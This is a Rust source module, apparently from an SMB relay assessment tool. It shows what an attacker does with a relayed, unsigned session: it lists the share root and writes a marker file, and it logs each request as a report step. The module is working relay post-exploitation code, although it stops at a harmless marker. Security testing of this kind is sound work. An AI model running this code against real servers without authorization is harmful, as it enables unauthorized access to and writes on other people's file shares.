//! What the attacker does with a relayed session: list the share root and write a marker
//! file. Every request is unsigned (the relay has no session key) and is one step of the
//! report; the first refusal stops the attack.

use smb_core::conn::client::{OpenRequest, ResponseBody};
use smb_core::messages::FileId;

use super::attempt::RelayAttempt;
use super::target::TargetConn;

/// Lists the share root: CREATE (directory), QUERY_DIRECTORY "*", CLOSE.
/// Returns the names, or None when a step was refused.
pub(crate) async fn list_root(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
) -> Option<Vec<String>> {
    let open = OpenRequest::directory("");
    let file_id = open_file(t, attempt, "share root (directory)", &open).await?;
    let tree_id = t.tree_id;
    let listing = t
        .step(attempt, "QUERY_DIRECTORY", "\"*\" in the share root", |c| {
            c.query_directory(tree_id, file_id, "*", true)
        })
        .await;
    close(t, attempt, file_id).await;
    match listing? {
        ResponseBody::Directory { entries } => Some(
            entries
                .into_iter()
                .map(|e| e.name)
                .filter(|n| n != "." && n != "..")
                .collect(),
        ),
        _ => Some(Vec::new()),
    }
}

/// Creates (or overwrites) `path` and writes `data` to it: CREATE, WRITE, CLOSE.
/// True when the WRITE was accepted in full.
pub(crate) async fn write_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    path: &str,
    data: &[u8],
) -> bool {
    let name = path.trim_start_matches(['\\', '/']).replace('/', "\\");
    let open = OpenRequest::write_file(&name);
    let Some(file_id) = open_file(t, attempt, &format!("marker {name}"), &open).await else {
        return false;
    };
    let tree_id = t.tree_id;
    let detail = format!("{} bytes to {name}", data.len());
    let written = t
        .step(attempt, "WRITE", &detail, |c| {
            c.write(tree_id, file_id, 0, data.to_vec())
        })
        .await;
    close(t, attempt, file_id).await;
    matches!(written, Some(ResponseBody::Write { count }) if count as usize == data.len())
}

async fn open_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    detail: &str,
    open: &OpenRequest,
) -> Option<FileId> {
    let tree_id = t.tree_id;
    match t
        .step(attempt, "CREATE", detail, |c| c.create(tree_id, open))
        .await?
    {
        ResponseBody::Create { file_id, .. } => Some(file_id),
        _ => None,
    }
}

async fn close(t: &mut TargetConn, attempt: &mut RelayAttempt, file_id: FileId) {
    let tree_id = t.tree_id;
    let _ = t
        .step(attempt, "CLOSE", "", |c| c.close(tree_id, file_id))
        .await;
}
